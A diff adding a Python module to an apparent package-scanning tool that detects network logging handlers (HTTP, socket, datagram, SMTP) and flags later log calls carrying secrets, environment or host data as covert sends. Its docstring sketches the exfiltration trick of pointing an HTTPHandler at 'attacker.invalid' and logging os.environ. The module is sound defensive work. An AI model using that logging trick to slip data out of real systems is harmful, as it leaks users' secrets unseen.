@@ -1,0 +1,81 @@
+"""Log records a handler made here sends over the network (ADR 0073).
+
+``logging.handlers.HTTPHandler('attacker.invalid', '/x')`` (or a socket, datagram or mail
+handler), added to a logger, sends every record that logger emits to that host: a
+``log.warning('%s', dict(os.environ))`` after it is a network send of the environment, with
+no network call written. Making the handler is a network call (to the host it names, as
+``smtplib.SMTP(host)`` is); a record logged after one was made, carrying secret, environment
+or host data, is a send of that data to the same host. ``logging.config.dictConfig`` of a
+literal naming one of these classes makes one too.
+
+Pure. What it deliberately does not do: match a record to the logger its handler was added
+to (any record logged after a network handler was made counts), read ``fileConfig`` files,
+or judge a handler that sends to the local machine's syslog.
+"""
+
+from __future__ import annotations
+
+import ast
+from typing import TYPE_CHECKING
+
+from airlock.imports.packages import flow
+from airlock.imports.packages.sinks import ENV, HOSTINFO, SECRET
+
+if TYPE_CHECKING:
+    from airlock.imports.packages.flow import Interpreter, Val, When
+
+NETWORK_HANDLERS = frozenset({
+    "logging.handlers.HTTPHandler", "logging.handlers.SocketHandler",
+    "logging.handlers.DatagramHandler", "logging.handlers.SMTPHandler",
+})  # fmt: skip
+LOG_METHODS = frozenset({
+    "debug", "info", "warning", "warn", "error", "exception", "critical", "fatal", "log",
+})  # fmt: skip
+CONFIGURERS = frozenset({"logging.config.dictConfig"})
+SENT = frozenset({SECRET, ENV, HOSTINFO})  # what a record sent away gives away
+MAX_CONFIG_NODES = 4096  # nodes of a configuration literal looked into
+
+
+def configured(interp: Interpreter, node: ast.Call, env: dict[str, Val], when: When) -> None:
+    """``dictConfig({... 'class': 'logging.handlers.HTTPHandler', 'host': h ...})``: a
+    handler made, its host the configuration's folded text."""
+    if not node.args:
+        return
+    texts: list[str] = []
+    for seen, part in enumerate(ast.walk(node.args[0])):
+        if seen > MAX_CONFIG_NODES:
+            return
+        if isinstance(part, (ast.Constant, ast.BinOp, ast.JoinedStr)):
+            const = interp.expr(part, env, flow.When.LATER).const
+            if isinstance(const, str):
+                texts.append(const)
+    if any(t in NETWORK_HANDLERS for t in texts):
+        text = " ".join(t for t in texts if t not in NETWORK_HANDLERS)[:4096]
+        made(interp, node.lineno, when, text)
+
+
+def made(interp: Interpreter, line: int, when: When, text: str) -> None:
+    """A network log handler made (to the host ``text`` names): later records go there."""
+    event = flow.Event("network", "logging.handlers", line, when, text, frozenset())
+    interp.trace.events.append(event)
+    interp.log_host = text or "?"
+
+
+def logged(
+    interp: Interpreter,
+    node: ast.Call,
+    args: list[Val],
+    kwargs: dict[str | None, Val],
+    when: When,
+) -> None:
+    """``log.warning('%s', secret)`` after a network handler was made: the record is sent."""
+    labels = frozenset().union(*(a.labels for a in [*args, *kwargs.values()]))
+    if labels & SENT:
+        event = flow.Event("network", "logging.handlers.emit", node.lineno, when,
+                           interp.log_host, labels)  # fmt: skip
+        interp.trace.events.append(event)
+
+
+def is_log_call(node: ast.Call) -> bool:
+    """``logger.warning(...)``, ``logging.error(...)``: a record logged."""
+    return isinstance(node.func, ast.Attribute) and node.func.attr in LOG_METHODS
